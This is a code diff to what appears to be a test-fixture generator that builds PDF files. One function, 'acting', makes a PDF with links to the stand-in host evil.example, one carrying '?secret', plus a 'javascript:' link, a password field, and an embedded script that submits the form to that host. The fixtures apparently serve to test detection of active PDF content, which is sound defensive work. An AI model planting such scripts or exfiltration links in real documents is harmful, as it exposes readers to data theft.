@@ -51,6 +51,8 @@ def acting(folder: Path) -> Path:
     canvas = Canvas(str(path), pagesize=A4)
     canvas.drawString(72, 745, "The parcel office opens at nine in the morning.")
     canvas.linkURL("https://evil.example/link", (0, 0, 595, 842), relative=0)
+    canvas.linkURL("https://evil.example/small?secret", (72, 300, 300, 320), relative=0)
+    canvas.linkURL("javascript:alert(1)", (72, 200, 300, 220), relative=0)
     canvas.acroForm.textfield(name="password", x=72, y=600, width=200, height=20)
     catalog = canvas._doc.Catalog
     script = "app.launchURL('https://evil.example/js'); this.submitForm('https://evil.example/form');"
@@ -60,10 +62,13 @@ def acting(folder: Path) -> Path:
     return path
 
 
-def manual(folder: Path, name: str, chapters: tuple[tuple[str, str], ...], front_pages: int = 0) -> Path:
+def manual(
+    folder: Path, name: str, chapters: tuple[tuple[str, str], ...], front_pages: int = 0, contents_on: int = -1
+) -> Path:
     """Several pages of running text; one sentence a page is that chapter's own.
 
     front_pages: so many are numbered i, ii, …; then it is a booklet without headings and with little on each page.
+    contents_on: that page (from 0) has a line for each chapter that leads to it.
     """
     path = folder / f"{name}.pdf"
     canvas = Canvas(str(path), pagesize=A4)
@@ -78,6 +83,11 @@ def manual(folder: Path, name: str, chapters: tuple[tuple[str, str], ...], front
         for line in range(3 if front_pages else 14):
             canvas.drawString(72, 745 - 24 * line, sentence if line == 1 else _filler(number, line))
         canvas.drawCentredString(297, 30, str(number + 1))
+        canvas.bookmarkPage(f"chapter{number}")
+        if number == contents_on:
+            for target, (title, _sentence) in enumerate(chapters[contents_on:]):
+                canvas.drawString(72, 380 - 24 * target, title)
+                canvas.linkRect("", f"chapter{target + contents_on}", (72, 376 - 24 * target, 300, 392 - 24 * target))
         canvas.showPage()
     canvas.save()
     return path
